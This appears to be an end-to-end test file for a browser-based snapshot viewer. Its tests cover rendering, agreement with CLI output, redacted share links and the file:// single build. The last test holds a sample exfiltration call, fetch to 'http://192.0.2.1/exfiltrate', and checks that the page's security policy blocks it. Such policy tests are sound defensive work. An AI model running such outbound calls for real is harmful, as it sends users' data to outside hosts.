// The viewer in Firefox ESR and WebKitGTK (e2e/lib/engines.mjs), as in Chromium: the built-in
// example, a picked snapshot compared with the CLI's JSON, a share link made in the page and
// opened in a fresh one, the single file from file://, and no request beyond the page's own files.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { ROOT, OUT, DIST, serve } from '../lib/harness.mjs';
import { launchEngine, unavailable } from '../lib/engines.mjs';

const PROCSNAP = process.env.PROCSNAP ?? join(ROOT, 'target', 'release', 'procsnap');
const SNAPSHOT = process.env.SNAPSHOT ?? join(OUT, 'this-host.procsnap.tar.gz');
const SINGLE = join(DIST, 'procsnap-viewer.html');
const needsCli = (!existsSync(SNAPSHOT) || !existsSync(PROCSNAP)) && `needs ${SNAPSHOT} and ${PROCSNAP}`;
const ENGINES = (process.env.ENGINES ?? 'firefox,webkit').split(',').filter(Boolean);

let server;
before(async () => { server = await serve(); });
after(async () => { await server?.close(); });

const loaded = '.viewer[data-loaded="true"]';
const num = async (b, sel) => Number(await b.attr(sel, 'data-value'));

/** Every URL the page loaded is one of its own files (or blob:/data:). */
async function onlyOwnFiles(b, own) {
  const urls = await b.requests();
  assert.ok(urls.length > 0, 'requests recorded');
  for (const u of urls) assert.ok(own.test(u), `request beyond the page's own files: ${u.slice(0, 100)}`);
}

for (const engine of ENGINES) {
  describe(engine, { skip: unavailable(engine) }, () => {
    let b;
    before(async () => { b = await launchEngine(engine); });
    after(async () => { await b?.close(); });
    const own = () => new RegExp(`^(${server.origin.replace(/[.]/g, '\\.')}/|blob:|data:)`);

    test(`${engine}: the built-in example opens and every view renders`, async () => {
      await b.newPage();
      await b.goto(server.origin + '/');
      await b.click('#example-button');
      await b.waitFor(loaded);
      assert.ok(await num(b, '#fig-time-wait') > 50_000, 'the example has lots of TIME_WAIT');
      for (const id of ['overview', 'listeners', 'time-wait', 'sockets', 'files', 'replay', 'compare']) {
        await b.click(`#tab-${id}`);
        await b.waitFor(`#panel-${id}`);
        if (id === 'sockets') await b.until(() => document.querySelectorAll('.vspacer .vrow').length > 0);
      }
      await onlyOwnFiles(b, own());
    });

    test(`${engine}: a picked snapshot matches \`procsnap report --format json\``, { skip: needsCli }, async () => {
      const json = JSON.parse(execFileSync(PROCSNAP, ['report', SNAPSHOT, '--format', 'json'], { maxBuffer: 1 << 28 }).toString());
      await b.newPage();
      await b.goto(server.origin + '/');
      await b.pick('#file-input', SNAPSHOT);
      await b.waitFor(loaded);
      await b.click('#tab-listeners');
      await b.waitFor('#listeners-table');
      const rows = await b.evaluate(() => [...document.querySelectorAll('#listeners-table tbody tr')].map((tr) => tr.dataset.key));
      const keys = json.listeners.map((l) => `${l.proto} ${l.local_addr}:${l.local_port} ${l.inode}`);
      assert.deepEqual([...rows].sort(), [...keys].sort(), 'listener rows');
      await b.click('#tab-time-wait');
      assert.equal(await num(b, '#tw-count'), json.time_wait.count, 'TIME_WAIT count');
      await b.click('#tab-overview');
      assert.equal(await num(b, '#fig-sockets'), json.volume.inet_rows + json.volume.unix_rows, 'socket count');
      assert.equal(await num(b, '#fig-listeners'), json.listeners.length, 'listener count');
      await onlyOwnFiles(b, own());
    });

    test(`${engine}: a share link made in the page opens in a fresh one, redacted`, async () => {
      await b.newPage();
      await b.goto(server.origin + '/');
      await b.click('#example-button');
      await b.waitFor(loaded);
      const listeners = await num(b, '#fig-listeners');
      await b.click('#share-button');
      await b.until(() => document.querySelector('#share-link')?.value.includes('#r=1.'));
      const link = await b.value('#share-link');
      assert.ok(link.startsWith(server.origin + '/#r=1.'), link.slice(0, 60));
      await b.newPage();
      await b.goto(link);
      await b.waitFor(loaded);
      assert.equal(await num(b, '#fig-listeners'), listeners);
      assert.match(await b.text('#shared-notice'), /redacted: addresses, args, hostname/);
      await onlyOwnFiles(b, own());
    });

    test(`${engine}: the single file opens from file:// and decodes the example`, { skip: !existsSync(SINGLE) && 'no single file' }, async () => {
      const url = pathToFileURL(SINGLE).href;
      await b.newPage();
      await b.goto(url);
      await b.click('#example-button');
      await b.waitFor(loaded);
      assert.ok(await num(b, '#fig-time-wait') > 50_000);
      await onlyOwnFiles(b, /^(file:|blob:|data:)/);
    });

    test(`${engine}: the policy blocks a script's fetch to another origin`, async () => {
      await b.newPage();
      await b.goto(server.origin + '/');
      await b.waitFor('#example-button');
      const out = await b.evaluate(() => new Promise((ok) => {
        document.addEventListener('securitypolicyviolation', (e) => ok(`blocked ${e.effectiveDirective || e.violatedDirective}`));
        fetch('http://192.0.2.1/exfiltrate', { mode: 'no-cors' }).then(() => ok('sent'), () => {});
        setTimeout(() => ok('no violation reported'), 5000);
      }));
      assert.match(out, /^blocked connect-src/);
    });
  });
}
